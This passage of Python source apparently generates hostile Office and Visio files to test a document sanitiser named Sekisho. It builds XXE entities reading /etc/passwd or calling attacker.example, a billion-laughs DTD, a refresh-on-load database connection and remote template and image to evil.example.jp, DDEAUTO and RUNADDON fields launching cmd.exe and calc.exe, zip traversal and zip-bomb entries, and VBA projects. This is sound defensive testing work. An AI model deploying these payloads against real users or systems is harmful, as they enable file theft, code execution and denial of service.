          '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:'
          'office:office" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000'
          '_s1025" type="#_x0000_t201" style="position:absolute;margin-left:300pt;margin-top:'
          '200pt;width:60pt;height:20pt;z-index:1"><v:textbox><div>Press</div></v:textbox>'
          '<x:ClientData ObjectType="Button"><x:Anchor>6, 0, 12, 0, 7, 0, 14, 0</x:Anchor>'
          "<x:PrintObject>False</x:PrintObject><x:AutoFill>False</x:AutoFill>"
          "<x:FmlaMacro>[0]!say_hello</x:FmlaMacro><x:TextHAlign>Center</x:TextHAlign>"
          "</x:ClientData></v:shape></xml>")
    p.default("vml", "application/vnd.openxmlformats-officedocument.vmlDrawing")
    legacy = p.rel("xl/worksheets/sheet1.xml", f"{R}/vmlDrawing", "../drawings/vmlDrawing1.vml")
    p.sub("xl/worksheets/sheet1.xml", "</worksheet>",
          f'<drawing xmlns:r="{R}" r:id="{drawing}"/><legacyDrawing xmlns:r="{R}" '
          f'r:id="{legacy}"/></worksheet>')
    return p.build()


def xlsx_connections() -> bytes:
    p = Pkg(base_xlsx())
    p.put("xl/connections.xml",
          '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
          '<connection id="1" name="外部DB" type="1" refreshedVersion="6" refreshOnLoad="1" '
          'savePassword="1" background="1"><dbPr connection="DRIVER={SQL Server};'
          'SERVER=evil.example.jp;UID=sa;PWD=himitsu" command="SELECT * FROM t"/></connection>'
          "</connections>")
    p.rel("xl/workbook.xml", f"{R}/connections", "connections.xml")
    p.override("xl/connections.xml",
               "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    return p.build()


def docx_alt_chunk(chunk: bytes, name: str, ctype: str) -> bytes:
    p = Pkg(base_docx())
    p.put(f"word/{name}", chunk)
    p.override(f"word/{name}", ctype)
    rid = p.rel("word/document.xml", f"{R}/aFChunk", name)
    p.body(f'<w:altChunk r:id="{rid}"/>')
    return p.build()


#: DTDs as attackers (and Adobe Illustrator) write them, with the reference to use
DTDS = {
    "xxe": ('<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "laughs": ('<!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
               '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
               "&d;"),
    "plain": ('<!DOCTYPE w:document [<!ENTITY t "見積書 第十二号">]>', "&t;"),
    "growth": ('<!DOCTYPE w:document [<!ENTITY t "' + "見積" * 200 + '">]>', "&t;" * 200),
}


def docx_xxe(kind: str) -> bytes:
    """The base document with a DTD (``DTDS``) whose entity stands for its title."""
    p = Pkg(base_docx())
    text = p.text("word/document.xml")
    decl, rest = text.split("\n", 1)
    dtd, entity = DTDS[kind]
    rest = rest.replace("見積書 第十二号", entity, 1)
    p.put("word/document.xml", decl + "\n" + dtd + rest)
    return p.build()


def docx_dtd_everywhere() -> bytes:
    """An external-entity DTD in parts Sekisho otherwise copies byte for byte: the
    package relationships, [Content_Types].xml and the core properties."""
    p = Pkg(base_docx())
    for name in ("_rels/.rels", "[Content_Types].xml", "docProps/core.xml"):
        decl, rest = p.text(name).split("\n", 1)
        root = rest.lstrip()[1:].split(" ", 1)[0]
        p.put(name, f'{decl}\n<!DOCTYPE {root} [<!ENTITY x SYSTEM "http://attacker.example/">]>'
                    f"{rest}")
    return p.build()


def docx_zip_tricks(kind: str) -> bytes:
    base = base_docx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for info in src.infolist():
            zf.writestr(info, src.read(info))
        if kind == "traversal":
            zf.writestr("../../evil.xml", "<x/>")
        elif kind == "duplicate":
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", UserWarning)     # the duplicate is the point
                zf.writestr("word/document.xml", src.read("word/document.xml"))
        elif kind == "encrypted":
            zf.writestr("word/secret.xml", "<x/>")
        elif kind == "bomb":
            zf.writestr("word/media/bomb.bin", bytes(64 * 1024 * 1024))
    data = out.getvalue()
    if kind == "encrypted":   # zipfile cannot encrypt: set the flag bit in both headers
        buf = bytearray(data)
        for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            name_at = 30 if sig == b"PK\x03\x04" else 46
            pos = buf.find(sig)
            while pos >= 0:
                if buf[pos + name_at:pos + name_at + 15] == b"word/secret.xml":
                    buf[pos + flag_at] |= 0x1
                pos = buf.find(sig, pos + 4)
        data = bytes(buf)
    return data


# --------------------------------------------------------------------- flat XML formats


def zip_to_flat(data: bytes, progid: str = "Word.Document") -> bytes:
    """Flat OPC (Word's "XML document") of a zip package."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        types = DET.fromstring(zf.read("[Content_Types].xml"))
        defaults = {el.get("Extension", "").lower(): el.get("ContentType", "")
                    for el in types if el.tag.endswith("Default")}
        overrides = {el.get("PartName", "").lstrip("/"): el.get("ContentType", "")
                     for el in types if el.tag.endswith("Override")}
        out = ['<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n',
               f'<?mso-application progid="{progid}"?>\n',
               '<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">']
        for name in zf.namelist():
            if name == "[Content_Types].xml":
                continue
            ctype = overrides.get(name) or defaults.get(name.rsplit(".", 1)[-1].lower(), "")
            body = zf.read(name)
            out.append(f'<pkg:part pkg:name="/{name}" pkg:contentType="{ctype}">')
            if ctype.endswith("xml"):
                text = body.decode("utf-8")
                text = re.sub(r"^<\?xml[^>]*\?>\s*", "", text)
                out.append(f"<pkg:xmlData>{text}</pkg:xmlData>")
            else:
                out.append("<pkg:binaryData>" + base64.b64encode(body).decode() +
                           "</pkg:binaryData>")
            out.append("</pkg:part>")
        out.append("</pkg:package>")
    return "".join(out).encode("utf-8")


def flat_to_zip(data: bytes) -> bytes:
    """A zip package from Flat OPC, so LibreOffice (which reads no Flat OPC) can open it."""
    text = data.decode("utf-8")
    parts = re.findall(r'<pkg:part pkg:name="/([^"]+)" pkg:contentType="([^"]*)"[^>]*>(.*?)'
                       r"</pkg:part>", text, re.S)
    assert parts, "no Flat OPC parts"
    DET.fromstring(data)          # well-formed
    out = io.BytesIO()
    types = ['<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">']
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, ctype, body in parts:
            types.append(f'<Override PartName="/{name}" ContentType="{ctype}"/>')
            m = re.fullmatch(r"\s*<pkg:xmlData>(.*)</pkg:xmlData>\s*", body, re.S)
            if m:
                zf.writestr(name, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                            + m.group(1))
            else:
                b64 = re.search(r"<pkg:binaryData>(.*)</pkg:binaryData>", body, re.S)
                assert b64 is not None
                zf.writestr(name, base64.b64decode("".join(b64.group(1).split())))
        zf.writestr("[Content_Types].xml", "".join(types) + "</Types>")
    return out.getvalue()


def active_mime(ole: bytes) -> bytes:
    """Word 2003 XML's editdata.mso: an ActiveMime header and the zlib-packed OLE file."""
    header = bytearray(b"ActiveMime" + bytes(0x32 - 10))
    struct.pack_into("<H", header, 0x1E, 0x32 - 46)
    return bytes(header) + zlib.compress(ole)


def wordml_2003(ole: bool = True) -> bytes:
    """Word 2003 XML with a VBA project (docSuppData), an embedded OLE object (docOleData,
    o:OLEObject with its picture), an attached template on a share, a linked picture,
    a DDEAUTO field and a web link. The OLE data is not a real object: LibreOffice
    refuses the file with it, so ``ole=False`` gives the same document without it."""
    mso = base64.b64encode(active_mime(vba_project())).decode()
    ole_data = base64.b64encode(active_mime(vba_project())).decode()
    pic = base64.b64encode(png()).decode()
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<?mso-application progid="Word.Document"?>\n'
            '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
            'xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:v="urn:schemas-microsoft-com:vml" w:macrosPresent="yes" '
            'w:embeddedObjPresent="yes">'
            '<w:docPr><w:attachedTemplate w:val="\\\\evil.example.jp\\t\\normal.dot"/></w:docPr>'
            '<w:docSuppData><w:binData w:name="editdata.mso">' + mso + "</w:binData>"
            '</w:docSuppData><w:docOleData><w:binData w:name="oledata.mso">' + ole_data +
            "</w:binData></w:docOleData><w:body>"
            '<w:p><w:r><w:pict><w:binData w:name="wordml://03000001.png">' + pic + "</w:binData>"
            '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:30pt;height:30pt" o:ole="">'
            '<v:imagedata src="wordml://03000001.png" o:title=""/></v:shape>'
            + ('<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
               'DrawAspect="Icon" ObjectID="_1700000002"/>' if ole else "")
            + "</w:pict></w:r></w:p>"
            '<w:p><w:r><w:pict><v:shape id="_x0000_i1026" type="#_x0000_t75" '
            'style="width:30pt;height:30pt"><v:imagedata src="http://evil.example.jp/t.png" '
            'o:title=""/></v:shape></w:pict></w:r></w:p>'
            "<w:p><w:r><w:t>見積書 第十二号</w:t></w:r></w:p>"
            "<w:p><w:r><w:t>関所（せきしょ）試験用の文書です。</w:t></w:r></w:p>"
            "<w:p>" + _fld("begin") + _instr(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                                                '"/k calc.exe" ')
            + _fld("separate") + "<w:r><w:t>表示された結果</w:t></w:r>" + _fld("end") + "</w:p>"
            '<w:p><w:hlink w:dest="https://www.example.jp/"><w:r><w:t>リンク先</w:t></w:r>'
            "</w:hlink></w:p></w:body></w:wordDocument>").encode("utf-8")


def encrypt(package: bytes, password: str) -> bytes:
    """ECMA-376 agile encryption, as Office writes it (msoffcrypto-tool's encrypter)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(package)).encrypt(password, out)
    return out.getvalue()


_VISIO_NS = "http://schemas.microsoft.com/office/visio/2012/main"
_VISIO_REL = "http://schemas.microsoft.com/visio/2010/relationships/"


def vsdx(*, macros: bool = False) -> bytes:
    """A minimal Visio 2013+ drawing (MS-VSDX parts, content types and relationships):
    one page, one shape whose double-click runs a program (the ShapeSheet formula
    RUNADDON); with ``macros`` a .vsdm (macro-enabled main part and a VBA project)."""
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8" '
                    'standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/'
                    'package/2006/content-types"></Types>')
    p = Pkg(empty.getvalue())
    p.default("rels", "application/vnd.openxmlformats-package.relationships+xml")
    p.default("xml", "application/xml")
    p.put("visio/document.xml", f'<?xml version="1.0" encoding="utf-8"?><VisioDocument '
                                f'xmlns="{_VISIO_NS}"/>')
    p.override("visio/document.xml", "application/vnd.ms-visio.drawing.macroEnabled.main+xml"
               if macros else "application/vnd.ms-visio.drawing.main+xml")
    p.rel("", _VISIO_REL + "document", "visio/document.xml", rid="rId1")
    p.put("visio/pages/pages.xml", (
        f'<?xml version="1.0" encoding="utf-8"?><Pages xmlns="{_VISIO_NS}" xmlns:r="http://'
        'schemas.openxmlformats.org/officeDocument/2006/relationships"><Page ID="0" '
        'NameU="Page-1" Name="ページ-1"><PageSheet/><Rel r:id="rId1"/></Page></Pages>'))
    p.override("visio/pages/pages.xml", "application/vnd.ms-visio.pages+xml")
    p.rel("visio/document.xml", _VISIO_REL + "pages", "pages/pages.xml", rid="rId1")
    p.put("visio/pages/page1.xml", (
        f'<?xml version="1.0" encoding="utf-8"?><PageContents xmlns="{_VISIO_NS}"><Shapes>'
        '<Shape ID="1" Type="Shape"><Cell N="EventDblClick" V="0" '
        'F="RUNADDON(&quot;calc.exe&quot;)"/><Text>庁舎配置図</Text></Shape>'
        "</Shapes></PageContents>"))
    p.override("visio/pages/page1.xml", "application/vnd.ms-visio.page+xml")
    p.rel("visio/pages/pages.xml", _VISIO_REL + "page", "page1.xml", rid="rId1")
    if macros:
        p.put("visio/vbaProject.bin", vba_project())
        p.override("visio/vbaProject.bin", "application/vnd.ms-office.vbaProject")
        p.rel("visio/document.xml", "http://schemas.microsoft.com/office/2006/relationships/"
              "vbaProject", "vbaProject.bin", rid="rId2")
    return p.build()
